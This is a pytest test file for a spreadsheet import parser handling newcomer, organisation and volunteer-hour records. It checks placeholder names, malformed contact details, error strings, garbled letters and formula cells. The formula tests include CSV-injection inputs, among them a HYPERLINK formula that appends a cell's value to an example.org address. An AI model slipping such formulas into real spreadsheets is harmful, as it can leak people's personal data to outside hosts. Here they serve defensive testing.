"""Cells that hold something, but not what their column is for."""

import pytest

from services.console.spreadsheets.csv_files import read
from services.console.spreadsheets.parsed_rows import parsed_rows
from services.console.spreadsheets.sheets.assignments import DAYS
from services.console.spreadsheets.sheets.newcomers import NEWCOMERS
from services.console.spreadsheets.sheets.opportunities import OPPORTUNITIES
from services.console.spreadsheets.sheets.organisations import ORGANISATIONS
from services.console.spreadsheets.sheets.stated import STATED
from services.console.spreadsheets.sheets.units import UNITS

PERSON = {"nr": "N-1", "inschrijvingsdatum": "1/2/2020", "werking": "Gent", "voornaam": "Ada"} | {
    "achternaam": "Voorbeeld",
    "geboortedatum": "1/1/1990",
}
ORGANISATION = {"nr": "O-1", "naam": "De Proef", "sector": "cultuur", "gebied": "Gent", "sinds": "1/2/2019"}
OPPORTUNITY = {"nr": "P-1", "organisatie": "O-1", "titel": "Koken", "soort": "langdurig"} | {
    "van": "1/2/2019",
    "plaatsen": "2",
}
FORMULA = "holds a formula instead of what it gives"
LOST = "a spreadsheet program lost what was typed"
GARBLED = "letters are lost or garbled; type them again"


def parsed(tmp_path, sheet, cells):
    path = tmp_path / "file.csv"
    path.write_text(f"{';'.join(cells)}\n{';'.join(cells.values())}\n")
    [row] = parsed_rows(read(path, sheet.columns), sheet)
    return row


DAY = {"inzet": "I-1", "datum": "1/2/2020", "uren": "3"}
FIGURE = {"indicator": "volunteer_days", "van": "1/1/2020", "tot": "1/2/2020", "waarde": "5", "bron": "Verslag"}


@pytest.mark.parametrize(
    ("hours", "read", "told"),
    [
        *(("0,3125", 0.3125, True), ("0.1458333", 0.1458333, True)),
        *(("0,5", 0.5, False), ("0,333", 0.333, False), ("2,6666667", 2.6666667, False), ("3", 3, False)),
    ],
)
def test_hours_that_may_be_a_part_of_a_day_are_taken_with_a_note(tmp_path, hours, read, told):
    row = parsed(tmp_path, DAYS, DAY | {"uren": hours})
    assert row.orders[0].body["hours"] == read
    assert [remark.partition(";")[0] for remark in row.remarks] == ["uren: taken as hours"] * told


@pytest.mark.parametrize("name", ["Totaal:", "TOTAAL generaal", "Total général", "Alle steden", "Grand total", ""])
def test_any_word_for_all_units_states_a_total(tmp_path, name):
    assert parsed(tmp_path, STATED, FIGURE | {"werking": name}).orders[0].body["scope"] == "total"


@pytest.mark.parametrize("name", ["Київ", "غنت"])
def test_a_name_of_which_no_id_can_be_made_is_told(tmp_path, name):
    cells = {"werking": name, "gebied": "Gent", "soort": "stad"}
    assert parsed(tmp_path, UNITS, cells).reason.startswith("a unit or an area needs a name in the letters a to z")


@pytest.mark.parametrize(
    "name",
    [
        *(
            "zzz",
            "XXXX",
            "x",
            "leeg",
            "Niet ingevuld",
            "(in te vullen)",
            "sans nom",
            "Inconnue",
            "unbekannt",
            "no name",
        ),
        *("غير معروف", "невідомо", "mevr.", "Nieuwkomer", "Persoon 1", "dummy", "voornaam"),
    ],
)
def test_a_word_in_place_of_a_name_is_no_name(tmp_path, name):
    assert parsed(tmp_path, NEWCOMERS, PERSON | {"voornaam": name, "achternaam": ""}).reason == "no name"
    assert parsed(tmp_path, NEWCOMERS, PERSON | {"voornaam": name, "achternaam": "Voorbeeld"}).reason == ""


@pytest.mark.parametrize("name", ["Ng", "O", "Aa", "Na", "沈", "ن", "Naamane", "Persoons", "Volgt-Veld"])
def test_a_short_or_odd_name_is_one(tmp_path, name):
    assert parsed(tmp_path, NEWCOMERS, PERSON | {"voornaam": name, "achternaam": ""}).reason == ""


@pytest.mark.parametrize(
    ("sheet", "cells", "column", "field", "wrong"),
    [
        (NEWCOMERS, PERSON, "postcode", "postcode", ["900", "90000", "0900", "B-90", "Gent"]),
        (
            NEWCOMERS,
            PERSON,
            "telefoon",
            "phone",
            [
                "geen",
                "12",
                "onbekend",
                "Ada",
                "123456",
                "0470 12 34 5",
                "06 12 34 56 78",
                f"0470 12 34 56 {'zus ' * 20}",
            ],
        ),
        (NEWCOMERS, PERSON, "nationaliteit", "nationality", ["XX", "ZZ", "UK", "Syrisch"]),
        (
            NEWCOMERS,
            PERSON,
            "email",
            "email",
            ["a@b", "a.b", "a@b.", "a@@b.be", "a b@c.be", "@b.be", "a@.be", "Ada <a@b.be>"],
        ),
        (ORGANISATIONS, ORGANISATION, "postcode", "postcode", ["900", "90000"]),
        (ORGANISATIONS, ORGANISATION, "email", "contact_email", ["a@b", "geen"]),
    ],
)
def test_what_describes_and_is_not_understood_is_left_out_with_a_note(tmp_path, sheet, cells, column, field, wrong):
    for cell in wrong:
        row = parsed(tmp_path, sheet, cells | {column: cell})
        assert (row.reason, row.remarks) == ("", [f"{column}: not understood, left out"])
        assert field not in row.orders[0].body


@pytest.mark.parametrize(
    ("column", "cell", "field", "sent"),
    [
        ("postcode", "9000", "postcode", "9000"),
        ("postcode", "B-9000", "postcode", "9000"),
        ("postcode", "b 9000", "postcode", "9000"),
        ("telefoon", "+32 470 12 34 56 (zus)", "phone", "+32 470 12 34 56 (zus)"),
        ("telefoon", "09/225.12.34", "phone", "09/225.12.34"),
        ("telefoon", "470123456", "phone", "470123456"),
        ("telefoon", f"0470 12 34 56 ({'z' * 60})", "phone", f"0470 12 34 56 ({'z' * 60})"),
        ("telefoon", "0470123456 of 0486112233", "phone", "0470123456 of 0486112233"),
        ("nationaliteit", "sy", "nationality", "SY"),
        ("nationaliteit", "XK", "nationality", "XK"),
        ("nationaliteit", "PS", "nationality", "PS"),
        ("email", "a.b+c@d-e.example.org", "email", "a.b+c@d-e.example.org"),
        ("email", "ada@voorbeeld.be", "email", "ada@voorbeeld.be"),
    ],
)
def test_what_is_understood_is_taken(tmp_path, column, cell, field, sent):
    row = parsed(tmp_path, NEWCOMERS, PERSON | {column: cell})
    assert (row.reason, row.remarks, row.orders[0].body[field]) == ("", [], sent)


@pytest.mark.parametrize(
    "cell",
    [
        *("#NV", "#N/D", "#NAAM?", "#DEEL/0!", "#BLOQUÉ!", "#ÜBERLAUF!", "#¡REF!", "#VALEUR !", "#GETTING_DATA"),
        *("Err:502", "Fout:508", "Loading...", "3,24701E 10", "########"),
    ],
)
def test_what_any_program_shows_for_a_lost_value_is_known(tmp_path, cell):
    assert parsed(tmp_path, NEWCOMERS, PERSON | {"nr": cell}).reason == f"nr: {LOST}"
    row = parsed(tmp_path, NEWCOMERS, PERSON | {"telefoon": cell})
    assert (row.reason, row.remarks) == ("", [f"telefoon: {LOST}, left out"])


@pytest.mark.parametrize("cell", ["#12", "#A-7", "E 10", "Err", "Loading"])
def test_a_number_that_only_looks_like_that_is_kept(tmp_path, cell):
    assert parsed(tmp_path, NEWCOMERS, PERSON | {"nr": cell}).orders[0].body["reference"] == cell


@pytest.mark.parametrize(
    "cell",
    ["Ren\\u00e9", "Ren\\xe9", "Ren=C3=A9", "Ren%C3%A9", "Ren_x00E9_", "=?utf-8?B?UmU=?=", "Ren┌", "Ren├®", "Ren‚"],
)
def test_letters_that_programs_spell_out_refuse_a_name(tmp_path, cell):
    assert parsed(tmp_path, NEWCOMERS, PERSON | {"voornaam": cell}).reason == f"voornaam: {GARBLED}"


@pytest.mark.parametrize("cell", ["=B2", "=HYPERLINK(A2)", "= B2+1", "@SUM(1+1)", "=+32470"])
def test_a_formula_is_not_what_it_gives(tmp_path, cell):
    row = parsed(tmp_path, NEWCOMERS, PERSON | {"telefoon": cell})
    assert (row.reason, row.remarks) == ("", [f"telefoon: {FORMULA}, left out"])
    assert "phone" not in row.orders[0].body
    assert parsed(tmp_path, NEWCOMERS, PERSON | {"nr": cell}).reason == f"nr: {FORMULA}"


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://example.org/?x="&A2)', "@SUM(1+1)"])
def test_a_name_stays_as_it_was_typed_whatever_it_begins_with(tmp_path, cell):
    row = parsed(tmp_path, NEWCOMERS, PERSON | {"voornaam": cell})
    assert (row.reason, row.remarks, row.orders[0].body["first_name"]) == ("", [], cell)


@pytest.mark.parametrize("cell", ["TRUE", "FALSE", "WAAR", "ONWAAR", "VRAI", "FAUX", "True", "false"])
def test_a_name_that_became_true_or_false_is_lost(tmp_path, cell):
    assert parsed(tmp_path, NEWCOMERS, PERSON | {"voornaam": cell}).reason == f"voornaam: {LOST}"
    assert parsed(tmp_path, NEWCOMERS, PERSON | {"achternaam": cell}).reason == f"achternaam: {LOST}"
    assert parsed(tmp_path, ORGANISATIONS, ORGANISATION | {"naam": cell}).reason == f"naam: {LOST}"
    assert parsed(tmp_path, OPPORTUNITIES, OPPORTUNITY | {"titel": cell}).reason == f"titel: {LOST}"
    assert parsed(tmp_path, UNITS, {"werking": cell, "gebied": "Gent", "soort": "stad"}).reason == f"werking: {LOST}"
    row = parsed(tmp_path, ORGANISATIONS, ORGANISATION | {"contactpersoon": cell})
    assert (row.reason, row.remarks) == ("", [f"contactpersoon: {LOST}, left out"])


def test_yes_and_no_stay_what_they_are(tmp_path):
    row = parsed(tmp_path, NEWCOMERS, PERSON | {"toestemming_jobcoach": "WAAR"})
    assert (row.reason, row.orders[-1].body["given"]) == ("", True)


@pytest.mark.parametrize("cell", ["Jos?", "Ren?e", "?gnes", "Jos? Maria", "M¿ller"])
def test_a_question_mark_in_a_persons_name_is_a_letter_that_was_lost(tmp_path, cell):
    assert parsed(tmp_path, NEWCOMERS, PERSON | {"voornaam": cell}).reason == f"voornaam: {GARBLED}"
    assert parsed(tmp_path, NEWCOMERS, PERSON | {"achternaam": cell}).reason == f"achternaam: {GARBLED}"
    row = parsed(tmp_path, ORGANISATIONS, ORGANISATION | {"contactpersoon": cell})
    assert row.reason == f"contactpersoon: {GARBLED}"


def test_other_names_may_ask_but_not_within_a_word(tmp_path):
    assert not parsed(tmp_path, ORGANISATIONS, ORGANISATION | {"naam": "Wie helpt?"}).reason
    assert not parsed(tmp_path, OPPORTUNITIES, OPPORTUNITY | {"titel": "Kom je koken?"}).reason
    assert parsed(tmp_path, ORGANISATIONS, ORGANISATION | {"naam": "Caf? Proef"}).reason == ""
    assert parsed(tmp_path, ORGANISATIONS, ORGANISATION | {"naam": "B?ume"}).reason == f"naam: {GARBLED}"


@pytest.mark.parametrize("column", ["werking", "gebied", "gemeente"])
def test_a_place_never_asks(tmp_path, column):
    cells = {"werking": "Gent", "gebied": "Gent", "soort": "stad", "gemeente": "Gent"} | {column: "Li?ge"}
    sheet, row = (UNITS, cells) if column != "gemeente" else (NEWCOMERS, PERSON | {column: "Vis?"})
    assert parsed(tmp_path, sheet, row).reason == f"{column}: {GARBLED}"


def test_what_is_no_postcode_among_those_of_a_unit_is_left_out_with_a_note(tmp_path):
    cells = {"werking": "Gent", "gebied": "Gent", "soort": "stad", "postcodes": "9000, 900, B-9050"}
    row = parsed(tmp_path, UNITS, cells)
    assert (row.orders[0].body["postcodes"], row.remarks) == (["9000", "9050"], ["postcodes: not understood, left out"])


def test_a_question_mark_alone_still_stands_for_no_name(tmp_path):
    row = parsed(tmp_path, NEWCOMERS, PERSON | {"achternaam": "?"})
    assert (row.reason, row.remarks) == ("", ["achternaam: holds no letters, left out"])
